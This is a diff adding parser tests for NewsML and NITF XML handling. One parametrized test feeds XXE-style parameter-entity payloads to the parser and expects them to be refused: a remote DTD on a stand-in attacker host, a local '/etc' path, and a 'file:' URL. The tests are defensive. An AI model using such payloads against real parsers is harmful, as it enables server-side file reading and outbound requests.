@@ -184,3 +184,30 @@ def test_peek_root_names_the_root_of_a_huge_doctype_from_its_name():
 def test_peek_root_none_for_text():
     assert peek_root(b"BEIRUT (Reuters) - Text") is None
     assert peek_root(b"") is None
+
+
+def test_a_dtd_module_named_in_the_subset_is_not_loaded_and_not_refused() -> None:
+    # NewsML 1.2 publishers pull in the NITF DTD this way; nothing is read either way.
+    doc = parse_xml(
+        b'<?xml version="1.0" encoding="ISO-8859-15"?>\n'
+        b'<!DOCTYPE NewsML PUBLIC "urn:newsml:iptc.org:20031010:NewsMLv1.2.dtd:1" '
+        b'"NewsML-1.2.dtd"\n[<!ENTITY % nitf SYSTEM "nitf-3-0.dtd"> %nitf; ]>\n'
+        b"<NewsML><NewsItem/></NewsML>",
+        format="newsml_1_2",
+    )
+    assert doc.root.tag == "NewsML"
+    assert any("nitf-3-0.dtd" in note for note in doc.notes)
+
+
+@pytest.mark.parametrize(
+    "subset",
+    [
+        b'<!ENTITY % r SYSTEM "http://attacker.invalid/evil.dtd"> %r;',
+        b'<!ENTITY % r SYSTEM "/etc/secrets.dtd"> %r;',
+        b'<!ENTITY % r SYSTEM "file:evil.dtd"> %r;',
+        b'<!ENTITY % r SYSTEM "module.dtd"> %r; <!ENTITY e "more">',
+    ],
+)
+def test_anything_beyond_a_relative_dtd_module_is_still_refused(subset: bytes) -> None:
+    with pytest.raises(HostileInputError):
+        parse_xml(b"<!DOCTYPE a [" + subset + b"]><a>x</a>", format="nitf")
